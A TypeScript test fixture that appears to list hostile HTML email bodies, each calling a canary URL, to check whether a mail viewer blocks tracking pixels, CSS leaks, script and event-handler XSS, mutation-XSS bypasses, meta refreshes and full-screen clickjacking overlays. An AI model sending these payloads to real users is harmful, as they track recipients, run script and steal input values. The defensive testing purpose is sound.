/** A mail that tries to do something when it is looked at. */
export interface NastyMail {
  /** What it tries. */
  readonly title: string;
  /** The kind of trick. */
  readonly kind: string;
  /** The HTML. @param url the URL of its own at the canary; more may follow it */
  readonly html: (url: string) => string;
}

/**
 * Mails that ask a canary for something, run something, lead somewhere, or cover what is around them. Each asks only at
 * the URL that it gets, so the canary knows which one it was.
 */
export const nastyMails: readonly NastyMail[] = [
  mail("image", "an image", (url) => `<img src="${url}">`),
  mail("image", "an image by its old name", (url) => `<image src="${url}">`),
  mail("image", "a srcset", (url) => `<img srcset="${url} 1x, ${url}/2 2x">`),
  mail("image", "a source of a picture", (url) => `<picture><source srcset="${url}"><img></picture>`),
  mail("image", "a background of the body", (url) => `<body background="${url}">x</body>`),
  mail(
    "image",
    "a background of a table",
    (url) => `<table background="${url}"><tr><td background="${url}/td">x`,
  ),
  mail("image", "an image button", (url) => `<form><input type="image" src="${url}"></form>`),
  mail("image", "an image without a scheme", (url) => `<img src="${url.replace("http:", "")}">`),
  mail(
    "image",
    "an image in tags that are closed wrongly",
    (url) => `<p <img src="${url}"><img/src=${url}/2 <b`,
  ),
  mail(
    "image",
    "an image in a comment of another program",
    (url) => `<!--[if mso]>--><img src="${url}"><!--<![endif]-->`,
  ),
  mail("style", "an imported style", (url) => `<style>@import "${url}";</style>`),
  mail("style", "an imported style, escaped", (url) => `<style>@\\69mport url(${url});</style>`),
  mail("style", "a style sheet", (url) => `<link rel="stylesheet" href="${url}">`),
  mail("style", "a background in a style attribute", (url) => `<p style="background:url(${url})">x</p>`),
  mail("style", "a background, escaped", (url) => `<p style="background:u\\72l('${url}')">x</p>`),
  mail("style", "a set of images", (url) => `<p style="background:image-set('${url}' 1x)">x</p>`),
  mail(
    "style",
    "an image in a variable",
    (url) => `<style>p{--x:url(${url});background:var(--x)}</style><p>x</p>`,
  ),
  mail(
    "style",
    "an image of a list, a cursor and a border",
    (url) =>
      `<ul style="list-style:url(${url});border-image:url(${url}/2) 1;cursor:url(${url}/3),auto"><li>x</ul>`,
  ),
  mail(
    "style",
    "an image that is generated",
    (url) => `<style>p::before{content:url(${url})}</style><p>x</p>`,
  ),
  mail(
    "style",
    "the value of an attribute, told by its selector",
    (url) => `<style>input[value^=s]{background:url(${url})}</style><input value="secret">`,
  ),
  mail(
    "style",
    "a style that ends its element",
    (url) => `<style>a{content:"</style><img src=${url}>"}</style>`,
  ),
  mail(
    "style",
    "a filter, a mask and a shape",
    (url) => `<p style="filter:url(${url}#f);-webkit-mask:url(${url}/2);shape-outside:url(${url}/3)">x</p>`,
  ),
  mail(
    "style",
    "a layer with an import",
    (url) => `<style>@layer a; @import url("${url}") layer(a);</style>`,
  ),
  mail(
    "font",
    "a font",
    (url) => `<style>@font-face{font-family:x;src:url(${url})}p{font-family:x}</style><p>x</p>`,
  ),
  mail("script", "a script", (url) => `<script>new Image().src="${url}"</script>`),
  mail("script", "a script of another host", (url) => `<script src="${url}"></script>`),
  mail("script", "a module", (url) => `<script type="module">import "${url}"</script>`),
  mail("script", "the handler of an error", (url) => `<img src="x:" onerror="new Image().src='${url}'">`),
  mail("script", "the handler of a load, in SVG", (url) => `<svg onload="fetch('${url}')"></svg>`),
  mail(
    "script",
    "the handler of an animation",
    (url) =>
      `<style>@keyframes x{}p{animation:x}</style><p onanimationstart="new Image().src='${url}'">x</p>`,
  ),
  mail(
    "script",
    "the handler of details",
    (url) => `<details open ontoggle="new Image().src='${url}'"><summary>x</details>`,
  ),
  mail(
    "script",
    "a handler behind namespaces",
    (url) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=new/**/Image().src='${url}'&gt;">`,
  ),
  mail(
    "script",
    "a handler behind noscript",
    (url) => `<noscript><p title="</noscript><img src=x: onerror=new/**/Image().src='${url}'>">`,
  ),
  mail(
    "script",
    "a frame with a document",
    (url) => `<iframe srcdoc="<script>new Image().src='${url}'</script>"></iframe>`,
  ),
  mail("script", "a script that moves the page", (url) => `<script>top.location="${url}"</script>`),
  mail("frame", "a frame", (url) => `<iframe src="${url}"></iframe>`),
  mail(
    "frame",
    "a frame that hides",
    (url) => `<iframe src="${url}" style="position:fixed;inset:0;opacity:0"></iframe>`,
  ),
  mail("frame", "a set of frames", (url) => `<frameset><frame src="${url}"></frameset>`),
  mail(
    "frame",
    "a frame with a document that has an image",
    (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  ),
  mail(
    "frame",
    "a fenced frame and a portal",
    (url) => `<fencedframe src="${url}"></fencedframe><portal src="${url}"></portal>`,
  ),
  mail("object", "an object", (url) => `<object data="${url}"></object>`),
  mail("object", "an embedded program", (url) => `<embed src="${url}">`),
  mail(
    "object",
    "an applet and its parameters",
    (url) => `<applet code="${url}"></applet><object><param name="movie" value="${url}"></object>`,
  ),
  mail("media", "a video and its poster", (url) => `<video src="${url}" poster="${url}/2" autoplay></video>`),
  mail(
    "media",
    "a sound, a source and a track",
    (url) => `<audio autoplay><source src="${url}"><track src="${url}/2"></audio>`,
  ),
  mail("refresh", "a refresh", (url) => `<meta http-equiv="refresh" content="0;url=${url}">`),
  mail(
    "refresh",
    "a refresh in the body, after a second",
    (url) => `<body><p>x</p><meta http-equiv=refresh content='1; ${url}'>`,
  ),
  mail("prefetch", "a prefetch", (url) => `<link rel="prefetch" href="${url}">`),
  mail(
    "prefetch",
    "a preload and a module",
    (url) => `<link rel="preload" as="image" href="${url}"><link rel="modulepreload" href="${url}/2">`,
  ),
  mail("prefetch", "a connection", (url) => `<link rel="preconnect" href="${url}">`),
  mail(
    "prefetch",
    "rules for speculation",
    (url) => `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${url}"]}]}</script>`,
  ),
  mail(
    "prefetch",
    "an icon and a manifest",
    (url) => `<link rel="icon" href="${url}"><link rel="manifest" href="${url}/2">`,
  ),
  mail(
    "form",
    "a form that a script sends",
    (url) => `<form id="f" action="${url}"><input name="a"></form><script>f.submit()</script>`,
  ),
  mail(
    "form",
    "a button over everything",
    (url) => `<form action="${url}"><button style="position:fixed;inset:0">x</button></form>`,
  ),
  mail(
    "form",
    "a button with an action of its own",
    (url) => `<form><input type="submit" formaction="${url}" style="position:fixed;inset:0"></form>`,
  ),
  mail("svg", "an image in SVG", (url) => `<svg><image href="${url}" width="9" height="9"/></svg>`),
  mail("svg", "a use of another document", (url) => `<svg><use href="${url}#x"/></svg>`),
  mail(
    "svg",
    "an image in a foreign object",
    (url) => `<svg><foreignObject><img src="${url}"></foreignObject></svg>`,
  ),
  mail("svg", "a style in SVG", (url) => `<svg><style>@import url(${url});</style></svg>`),
  mail(
    "svg",
    "an SVG in a data URL",
    (url) =>
      `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg'%3E%3Cimage href='${url}'/%3E%3C/svg%3E">`,
  ),
  mail("base", "a base for what follows", (url) => `<base href="${url}/"><img src="x"><a href="x">x</a>`),
  mail(
    "base",
    "a policy of its own",
    (url) => `<meta http-equiv="Content-Security-Policy" content="img-src *"><img src="${url}">`,
  ),
  mail(
    "template",
    "a shadow tree",
    (url) => `<div><template shadowrootmode="open"><img src="${url}"></template></div>`,
  ),
  mail(
    "link",
    "a link over everything",
    (url) => `<a href="${url}" style="position:fixed;inset:0;z-index:9">x</a>`,
  ),
  mail(
    "link",
    "a link into this frame",
    (url) => `<a href="${url}" target="_self" style="position:fixed;inset:0">x</a>`,
  ),
  mail(
    "link",
    "a link into the whole window",
    (url) => `<a href="${url}" target="_top" style="position:fixed;inset:0">x</a>`,
  ),
  mail(
    "link",
    "a link that pings",
    (url) => `<a href="#x" ping="${url}" style="position:fixed;inset:0">x</a>`,
  ),
  mail(
    "link",
    "a script in a link",
    (url) => `<a href="javascript:new Image().src='${url}'" style="position:fixed;inset:0">x</a>`,
  ),
  mail(
    "link",
    "a document in a link",
    (url) => `<a href="data:text/html,<img src='${url}'>" style="position:fixed;inset:0">x</a>`,
  ),
  mail(
    "link",
    "an area over everything",
    (url) =>
      `<map name="m"><area href="${url}" shape="default" target="_top"></map><img usemap="#m" width="900" height="900" src="data:image/gif;base64,R0lGODlhAQABAAAAACw=">`,
  ),
  mail(
    "link",
    "a link in SVG",
    (url) => `<svg width="900" height="900"><a href="${url}"><rect width="900" height="900"/></a></svg>`,
  ),
];

/** The titles of those that lead to the canary by a click, in a new tab. */
export const leading: ReadonlySet<string> = new Set([
  "a link over everything",
  "a link into this frame",
  "a link into the whole window",
  "an area over everything",
]);

function mail(kind: string, title: string, html: NastyMail["html"]): NastyMail {
  return { kind, title, html };
}
